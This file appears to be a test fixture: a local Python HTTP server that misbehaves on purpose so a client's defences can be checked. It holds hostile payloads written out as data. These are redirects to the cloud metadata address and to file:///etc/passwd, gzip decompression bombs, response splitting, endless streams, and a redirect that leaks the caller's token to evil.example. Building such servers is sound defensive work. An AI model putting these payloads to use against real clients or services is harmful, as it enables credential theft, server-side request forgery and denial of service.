"""A server that does what servers should not: by the path that it is asked for.

usage: hostile_server.py FOLDER [CERTIFICATE KEY]

Its port goes into FOLDER/port; a line for each request into FOLDER/asked.
"""
import base64
import gzip
import json
import os
import socket
import ssl
import sys
import threading
import time

folder = sys.argv[1]
lock = threading.Lock()


def note(line):
    with lock, open(os.path.join(folder, "asked"), "a") as out:
        out.write(line + "\n")


def read_request(conn):
    data = b""
    while b"\r\n\r\n" not in data:
        got = conn.recv(65536)
        if not got:
            return None
        data += got
    head, body = data.split(b"\r\n\r\n", 1)
    lines = head.decode("latin-1").split("\r\n")
    headers = {}
    for line in lines[1:]:
        name, value = line.split(":", 1)
        headers.setdefault(name.lower(), []).append(value.strip())
    length = int(headers.get("content-length", ["0"])[0])
    while len(body) < length:
        got = conn.recv(65536)
        if not got:
            return None
        body += got
    method, path, _ = lines[0].split(" ", 2)
    return method, path, headers, body


def answer(conn, status, headers, body):
    head = f"HTTP/1.1 {status}\r\nContent-Length: {len(body)}\r\n"
    head += "".join(f"{name}: {value}\r\n" for name, value in headers)
    conn.sendall(head.encode("latin-1") + b"\r\n" + body)


def endless(conn, piece, pause=0.0):
    while True:
        conn.sendall(piece)
        time.sleep(pause)


def serve(conn, method, path, headers, body):
    secret = headers.get("authorization", [""])[0].split(" ")[-1]
    port = conn.getsockname()[1]
    redirects = {
        "/to-metadata": "http://169.254.169.254/latest/meta-data/",
        "/to-loopback": f"http://127.0.0.1:{port}/ok",
        "/to-other": f"http://localhost:{port}/forbidden",
        "/to-file": "file:///etc/passwd",
        "/to-loop": "/to-loop",
    }
    if path in redirects:
        answer(conn, "302 Found", [("Location", redirects[path])], b"")
    elif path == "/ok":
        answer(conn, "200 OK", [("X-One", "1"), ("X-One", "2"), ("Set-Cookie", "a=1"),
                                ("Set-Cookie", "b=2"), ("X-Latin", "\xe9")], b"fine\0\xff")
    elif path == "/method":
        answer(conn, "200 OK", [], f"{method} {len(body)}".encode())
    elif path == "/headers":
        lines = [f"{n}: {v}" for n, vs in sorted(headers.items()) for v in vs]
        answer(conn, "200 OK", [], "\n".join(lines).replace(secret or "\0", "*").encode())
    elif path == "/slow":
        time.sleep(30)
    elif path == "/a-while":
        time.sleep(0.3)
        answer(conn, "200 OK", [], b"late")
    elif path == "/drip-head":
        conn.sendall(b"HTTP/1.1 200 OK\r\n")
        endless(conn, b"X-Drip: 1\r\n", 0.2)
    elif path == "/drip-body":
        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\n")
        endless(conn, b"x", 0.2)
    elif path == "/endless":
        conn.sendall(b"HTTP/1.1 200 OK\r\n\r\n")
        endless(conn, b"x" * 65536)
    elif path == "/endless-chunks":
        conn.sendall(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")
        endless(conn, b"10000\r\n" + b"x" * 65536 + b"\r\n")
    elif path == "/says-much":
        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 99999999999\r\n\r\n")
        endless(conn, b"x" * 65536)
    elif path == "/many-headers":
        conn.sendall(b"HTTP/1.1 200 OK\r\n")
        endless(conn, b"".join(b"X-%d: y\r\n" % i for i in range(1000)))
    elif path == "/long-header":
        conn.sendall(b"HTTP/1.1 200 OK\r\nX-Long: ")
        endless(conn, b"y" * 65536)
    elif path == "/interim-flood":
        endless(conn, b"HTTP/1.1 103 Early Hints\r\nLink: x\r\n\r\n")
    elif path == "/bomb":
        packed = gzip.compress(b"\0" * (64 << 20))
        answer(conn, "200 OK", [("Content-Encoding", "gzip")], packed)
    elif path == "/transfer-bomb":
        packed = gzip.compress(b"\0" * (64 << 20))
        conn.sendall(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip, chunked\r\n\r\n")
        conn.sendall(b"%x\r\n" % len(packed) + packed + b"\r\n0\r\n\r\n")
    elif path == "/two-lengths":
        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nContent-Length: 5\r\n\r\nhello")
    elif path == "/split":
        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nokHTTP/1.1 200 OK\r\n"
                     b"Content-Length: 4\r\n\r\nevil")
    elif path == "/nul-header":
        conn.sendall(b"HTTP/1.1 200 OK\r\nX-Nul: a\0b\r\nContent-Length: 2\r\n\r\nok")
    elif path == "/http09":
        conn.sendall(b"just bytes, no head at all\n")
    elif path == "/nonsense":
        conn.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" * 10)
    elif path == "/cut":
        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\nhalf")
    elif path == "/close":
        pass
    elif path == "/upgrade":
        conn.sendall(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: x\r\nConnection: Upgrade\r\n\r\n")
        time.sleep(1)
    elif path == "/busy":
        answer(conn, "429 Too Many Requests", [("Retry-After", "1")], b"")
    elif path == "/busy-long":
        answer(conn, "429 Too Many Requests", [("Retry-After", "3600")], b"")
    elif path == "/echo/plain":
        answer(conn, "200 OK", [], f"you sent {secret}, thanks".encode())
    elif path == "/echo/header":
        answer(conn, "200 OK", [("X-You-Sent", secret)], b"")
    elif path == "/echo/status":
        answer(conn, f"200 {secret}", [], b"")
    elif path == "/echo/cookie":
        answer(conn, "200 OK", [("Set-Cookie", "token=" + secret)], b"")
    elif path == "/echo/redirect":
        answer(conn, "302 Found", [("Location", "https://evil.example/?t=" + secret)], b"")
    elif path.startswith("/echo/base64/"):
        shift = "x" * int(path[-1])
        answer(conn, "200 OK", [], base64.b64encode(f"{shift}{secret}!".encode()))
    elif path == "/echo/base64url":
        answer(conn, "200 OK", [], base64.urlsafe_b64encode(f"{secret}!".encode()))
    elif path == "/echo/hex":
        answer(conn, "200 OK", [], secret.encode().hex().upper().encode())
    elif path == "/echo/percent":
        from urllib.parse import quote
        answer(conn, "200 OK", [], quote(secret, safe="").encode())
    elif path == "/echo/json":
        answer(conn, "200 OK", [], json.dumps({"t": secret}).replace("/", "\\/").encode())
    elif path == "/echo/gzip":
        answer(conn, "200 OK", [("Content-Encoding", "gzip")], gzip.compress(secret.encode()))
    else:
        answer(conn, "404 Not Found", [], b"")


def talk(conn, context):
    try:
        if context:
            conn = context.wrap_socket(conn, server_side=True)
        while True:
            request = read_request(conn)
            if not request:
                return
            method, path, headers, body = request
            auth = headers.get("authorization", ["-"])
            note(f"{method} {path} host={headers.get('host', ['-'])[0]} auths={len(auth)} {auth[0]}")
            serve(conn, method, path.split("?")[0], headers, body)
            if path in ("/close", "/cut", "/http09", "/nonsense", "/nul-header", "/two-lengths"):
                return
    except (OSError, ValueError):
        pass
    finally:
        try:
            conn.close()
        except OSError:
            pass


context = None
if len(sys.argv) > 2:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(sys.argv[2], sys.argv[3])
listener = socket.socket()
listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
listener.bind(("127.0.0.1", 0))
listener.listen(128)
with open(os.path.join(folder, "port.new"), "w") as out:
    out.write(str(listener.getsockname()[1]))
os.rename(os.path.join(folder, "port.new"), os.path.join(folder, "port"))
while True:
    accepted, _ = listener.accept()
    accepted.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    threading.Thread(target=talk, args=(accepted, context), daemon=True).start()
